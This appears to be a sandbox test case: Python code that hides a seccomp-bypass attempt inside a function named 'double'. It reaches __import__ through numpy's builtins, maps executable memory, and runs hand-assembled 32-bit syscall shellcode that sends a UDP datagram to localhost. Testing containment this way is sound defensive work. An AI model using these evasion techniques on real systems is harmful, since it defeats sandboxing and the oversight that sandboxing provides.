"""
family: network
tries: sends a datagram with the system calls of a 32-bit program, whose numbers a filter may not know
stopped_by: [seccomp]
shows: touched udp
"""

import numpy as np

PLACES = {}
real_import = np.__dict__["__builtins__"]["__import__"]
ctypes = real_import("ctypes")
LIBRARY = ctypes.CDLL(None)
LIBRARY.mmap.restype = ctypes.c_void_p
SOCKET, SENDTO = 359, 369


def below_4_gib(protection):
    """MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT."""
    return LIBRARY.mmap(None, 4096, protection, 0x62, -1, 0)


def number(value):
    return (value & 0xFFFFFFFF).to_bytes(4, "little")


def program(data, port):
    """PUSH RBX, RBP; SOCKET(2, 2, 0); SENDTO(it, data, 5, 0, address, 16); POP RBP, RBX; RET."""
    address = b"\2\0" + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    ctypes.memmove(data, address + b"hello", 21)
    first = b"\xbb" + number(2) + b"\xb9" + number(2) + b"\x31\xd2" + b"\xb8" + number(SOCKET) + b"\xcd\x80"
    second = b"\x89\xc3" + b"\xb9" + number(data + 16) + b"\xba" + number(5) + b"\x31\xf6"
    second += b"\xbf" + number(data) + b"\xbd" + number(16) + b"\xb8" + number(SENDTO) + b"\xcd\x80"
    return b"\x53\x55" + first + second + b"\x5d\x5b\xc3"


def double(x):
    data, code = below_4_gib(3), below_4_gib(7)
    if code in (None, 2**64 - 1):
        return x
    body = program(data, PLACES["udp"])
    ctypes.memmove(code, body, len(body))
    ctypes.CFUNCTYPE(ctypes.c_int)(code)()
    return x


def total(x):
    return x
